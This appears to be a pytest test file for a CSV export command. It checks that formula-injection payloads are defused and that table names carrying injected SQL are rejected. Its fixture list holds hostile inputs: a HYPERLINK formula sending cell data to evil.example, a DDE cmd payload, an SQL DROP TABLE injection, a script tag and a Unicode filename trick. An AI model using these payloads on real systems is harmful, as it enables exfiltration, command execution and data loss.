"""`integration-assets export`: values as stored, formulas defused for spreadsheets, only real tables."""

import csv
import io

import pytest

from integration_assets.cli import main
from integration_assets.csv_export import UnknownTable, export_table
from integration_assets.storage.warehouse import Warehouse

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "@cmd|' /C calc'!A0",
    "Robert'); DROP TABLE core.people;--",
    "<script>alert(1)</script>",
    'say "hi", then\nleave',
    "Zoë \u202egnp.exe\u200d \U0001f600",
]


@pytest.fixture
def warehouse(tmp_path) -> Warehouse:
    warehouse = Warehouse(tmp_path / "warehouse.duckdb")
    with warehouse.connect() as con:
        con.execute("CREATE TABLE core.people (id INTEGER, name VARCHAR, amount DECIMAL(10, 2))")
        for index, name in enumerate(HOSTILE):
            con.execute("INSERT INTO core.people VALUES (?, ?, ?)", [index, name, -index - 0.5])
    return warehouse


def read_back(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_formulas_are_defused_and_everything_else_is_kept_as_stored(warehouse):
    out = io.StringIO()
    with warehouse.connect(read_only=True) as con:
        assert export_table(con, "core.people", out) == len(HOSTILE)
    rows = read_back(out.getvalue())
    names = [row["name"] for row in rows]
    # A spreadsheet shows them as text; a DDE pipe is escaped too (defusedcsv's rules).
    assert names[:3] == ["'" + HOSTILE[0], "'" + HOSTILE[1], "'@cmd\\|' /C calc'!A0"]
    assert names[3:] == HOSTILE[3:]  # no formula: verbatim, quotes, newlines and Unicode included
    assert [row["amount"] for row in rows][:2] == [
        "-0.50",
        "-1.50",
    ]  # negative numbers stay numbers
    with warehouse.connect(read_only=True) as con:
        stored = [n for (n,) in con.execute("SELECT name FROM core.people ORDER BY id").fetchall()]
    assert stored == HOSTILE  # the warehouse itself is untouched
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())


@pytest.mark.parametrize(
    "name", ["core.nope", "core", "core.people; DROP TABLE core.people", '"core"."people"']
)
def test_only_a_table_of_the_warehouse_can_be_exported(warehouse, name):
    with warehouse.connect(read_only=True) as con:
        with pytest.raises(
            UnknownTable, match=r"no table .* in the warehouse \(tables: .*core.people, "
        ):
            export_table(con, name, io.StringIO())
        assert con.execute("SELECT count(*) FROM core.people").fetchone()[0] == len(HOSTILE)


def test_the_command_writes_the_file_and_refuses_an_unknown_table(
    warehouse, tmp_path, monkeypatch, capsys
):
    monkeypatch.setenv("INTEGRATION_ASSETS_DATA_DIR", str(tmp_path))
    target = tmp_path / "people.csv"
    assert main(["export", "core.people", "--out", str(target)]) == 0
    assert f"{len(HOSTILE)} rows of core.people written to {target}" in capsys.readouterr().err
    assert read_back(target.read_text(encoding="utf-8"))[3]["name"] == HOSTILE[3]
    assert main(["export", "core.nothing"]) == 2
    assert "integration-assets export: no table 'core.nothing'" in capsys.readouterr().err
